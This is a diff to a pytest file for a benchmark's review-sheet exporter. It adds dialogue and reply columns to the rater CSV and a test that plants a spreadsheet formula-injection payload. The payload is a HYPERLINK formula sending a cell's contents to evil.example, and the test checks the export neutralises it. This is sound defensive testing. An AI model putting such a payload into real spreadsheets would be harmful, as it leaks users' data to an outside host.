@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
+import shutil
 import subprocess
 from collections import Counter
 from html.parser import HTMLParser
@@ -12,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from agree_runs import EXE, HOSTILE, ROWS
+from agree_runs import BY_ID, EXE, HOSTILE, ROWS
 
 pytestmark = pytest.mark.slow
 
@@ -54,6 +56,11 @@ class Page(HTMLParser):
             self.text.append(data)
 
 
+def read_sheet(path: Path) -> list[dict[str, str]]:
+    """review.csv's rows as a spreadsheet reads them (its dialogue and reply cells span several lines)."""
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
+
+
 def parse(path: Path) -> Page:
     p = Page()
     p.feed(path.read_text(encoding="utf-8"))
@@ -64,9 +71,9 @@ def test_files_sheet_id_and_csv(sheet: Path) -> None:
     meta = json.loads((sheet / "sheet.json").read_text(encoding="utf-8"))
     raw = (sheet / "review.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 (Chinese) correctly
-    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
-    assert list(rows[0]) == ["sheet_id", "item_key", "question_id", "criterion_index", "criterion", "weight",
-                             "met", "rater", "note"]
+    rows = read_sheet(sheet / "review.csv")
+    assert list(rows[0]) == ["sheet_id", "item_key", "question_id", "dialogue", "reply", "criterion_index", "criterion",
+                             "weight", "met", "rater", "note"]
     assert len(rows) == meta["n"] == 40 == len(set(r["item_key"] for r in rows))
     assert {r["sheet_id"] for r in rows} == {meta["sheet_id"]}
     page = parse(sheet / "review.html")
@@ -75,6 +82,11 @@ def test_files_sheet_id_and_csv(sheet: Path) -> None:
     by_id = {r["question_id"]: r for r in ROWS}
     for r in rows:  # the index is samples.jsonl's 1-based criteria[].index into the benchmark's rubric
         assert by_id[r["question_id"]]["rubric"][int(r["criterion_index"]) - 1]["content"] == r["criterion"]
+        # every row carries the question's dialogue and the reply under review: a spreadsheet rater needs nothing else
+        turns = by_id[r["question_id"]]["dialogue"]
+        assert r["dialogue"].count("\n\n") == len(turns) - 1
+        assert all(t["content"] in r["dialogue"] for t in turns) and r["dialogue"].startswith("User (")
+        assert r["reply"].startswith("REPLY[") and r["question_id"] in r["reply"]
 
 
 def test_stratified_and_deterministic(review_runs: list[Path], sheet: Path, tmp_path: Path) -> None:
@@ -111,8 +123,32 @@ def test_hostile_reply_renders_as_text(review_runs: list[Path], tmp_path: Path) 
     page = parse(tmp_path / "review.html")
     assert page.tags["script"] == 1 and page.tags["img"] == 0 and page.tags["b"] == 0
     assert any(HOSTILE in t for t in page.text)
-    rows = list(csv.DictReader((tmp_path / "review.csv").read_text(encoding="utf-8-sig").splitlines()))
+    rows = read_sheet(tmp_path / "review.csv")
     assert len(rows) == sum(len(r["rubric"]) for r in ROWS)  # whole replies: every criterion of all 15
+    assert any(HOSTILE in r["reply"] for r in rows)  # the same text in the sheet, a cell like any other
+
+
+def test_sheet_cells_cannot_run_as_formulas(review_runs: list[Path], tmp_path: Path) -> None:
+    """A reply or a dialogue turn that a spreadsheet would run is written guarded and reads back as written."""
+    run_dir = tmp_path / "run"
+    shutil.copytree(review_runs[0], run_dir)
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    first = ROWS[0]["question_id"]
+    for name, edit in (("samples.jsonl", lambda r: {**r, "response": evil} if r["id"] == first else r),
+                       ("answers.jsonl", lambda r: {**r, "dialogue": [{**r["dialogue"][0], "content": "@SUM(A1:A9)"},
+                                                                       *r["dialogue"][1:]]} if r.get("question_id") == first
+                        else r)):
+        path = run_dir / name
+        rows = [edit(json.loads(x)) for x in path.read_text(encoding="utf-8").splitlines()]
+        path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
+    res = run("review", "export", str(run_dir), "n=15", "unit=reply", "stratify=subset", f"out={tmp_path / 'out'}")
+    assert res.returncode == 0, res.stderr
+    rows = [r for r in read_sheet(tmp_path / "out" / "review.csv") if r["question_id"] == first]
+    assert rows and all(r["reply"] == "'" + evil for r in rows)  # a leading quote: text, not a formula
+    assert all("@SUM(A1:A9)" in r["dialogue"] and not r["dialogue"].startswith(("=", "+", "-", "@")) for r in rows)
+    from rubric_engine.text.csvcells import cell_value
+
+    assert cell_value(rows[0]["reply"]) == evil and len(BY_ID[first]["rubric"]) == len(rows)
 
 
 def test_bad_arguments_one_line_exit_2(review_runs: list[Path], tmp_path: Path) -> None:
